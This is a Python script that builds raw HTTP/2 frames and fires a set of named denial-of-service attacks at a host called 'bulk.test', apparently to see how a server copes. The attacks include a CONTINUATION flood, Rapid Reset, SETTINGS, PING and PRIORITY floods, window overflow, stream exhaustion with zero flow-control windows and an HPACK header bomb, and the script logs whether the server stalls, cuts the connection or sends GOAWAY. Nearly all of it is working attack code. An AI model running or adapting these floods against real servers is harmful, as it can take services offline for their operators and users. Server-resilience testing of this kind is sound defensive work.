import socket, struct, sys
from hpack import Encoder

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
INITIAL_WINDOW_SIZE = 4

def frame(kind, flags=0, stream=0, payload=b''):
    head = struct.pack('>I', len(payload))[1:] + bytes([kind, flags])
    return head + struct.pack('>I', stream) + payload

def fields(path, method='GET', *more):
    pseudo = [(':method', method), (':scheme', 'http'), (':authority', 'bulk.test'), (':path', path)]
    return Encoder().encode(pseudo + list(more))

def get(stream, path='/'):
    return frame(HEADERS, END_HEADERS | END_STREAM, stream, fields(path))

def post(stream):
    return frame(HEADERS, END_HEADERS, stream, fields('/sink', 'POST'))

STREAMS = range(1, 1 << 31, 2)

def continuation_flood():
    yield frame(HEADERS, END_STREAM, 1, fields('/'))
    piece = Encoder().encode([('x', 'y' * 16000)], huffman=False)
    for _ in range(4000):
        yield frame(CONTINUATION, 0, 1, piece)

def small_continuation_flood():
    yield frame(HEADERS, END_STREAM, 1, fields('/'))
    for _ in range(50):
        yield frame(CONTINUATION, 0, 1) * 1000

def rapid_reset():
    for _, stream in zip(range(20000), STREAMS):
        yield get(stream) + frame(RST_STREAM, 0, stream, struct.pack('>I', 8))

def settings_flood():
    for _ in range(50):
        yield frame(SETTINGS) * 1000

def ping_flood():
    for _ in range(50):
        yield frame(PING, 0, 0, bytes(8)) * 1000

def priority_flood():
    for stream in range(1, 20000, 200):
        for dependent in range(stream, stream + 200, 2):
            yield frame(PRIORITY, 0, dependent, struct.pack('>IB', dependent + 200001, 16))

def priority_of_itself():
    yield frame(PRIORITY, 0, 1, struct.pack('>IB', 1, 16))

def window_overflow():
    for _ in range(3):
        yield frame(WINDOW_UPDATE, 0, 0, struct.pack('>I', (1 << 31) - 1))

def closed_windows():
    yield frame(SETTINGS, 0, 0, struct.pack('>HI', INITIAL_WINDOW_SIZE, 0))
    for _, stream in zip(range(100), STREAMS):
        yield get(stream, '/bytes/100000000')

def too_many_streams():
    yield frame(SETTINGS, 0, 0, struct.pack('>HI', INITIAL_WINDOW_SIZE, 0))
    for _, stream in zip(range(1000), STREAMS):
        yield get(stream, '/bytes/100000')

def empty_data_flood():
    yield post(1)
    for _ in range(1000):
        yield frame(DATA, 0, 1) * 100

def more_than_the_window():
    yield post(1)
    for _ in range(2000):
        yield frame(DATA, 0, 3, bytes(16384))

def header_bomb():
    encoder = Encoder()
    entry = encoder.encode([('x-large', 'z' * 3900)], huffman=False)
    # The entry's own index in the table, again and again.
    for _, stream in zip(range(100), STREAMS):
        bomb = fields('/') + entry + b'\xbe' * 10000
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, bomb)

def told(connection):
    """How it stands, by what has come."""
    connection.settimeout(1)
    come = b''
    state = 'open'
    try:
        while piece := connection.recv(1 << 20):
            come += piece
        state = 'closed'
    except TimeoutError:
        pass
    except OSError:
        state = 'closed'
    while len(come) >= 9:
        length = int.from_bytes(come[:3], 'big')
        if come[3] == 7:
            return 'goaway %d' % int.from_bytes(come[13:17], 'big')
        come = come[9 + length:]
    return state

held = []
for line in sys.stdin:
    attack = line.strip()
    connection = socket.create_connection(('bulk.test', 80))
    connection.settimeout(3)
    held.append(connection)
    try:
        connection.sendall(b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n' + frame(SETTINGS))
        for piece in globals()[attack]():
            connection.sendall(piece)
        how = 'taken'
    except TimeoutError:
        how = 'stalled'
    except OSError:
        how = 'cut off'
    print(attack, how, told(connection), 'end')
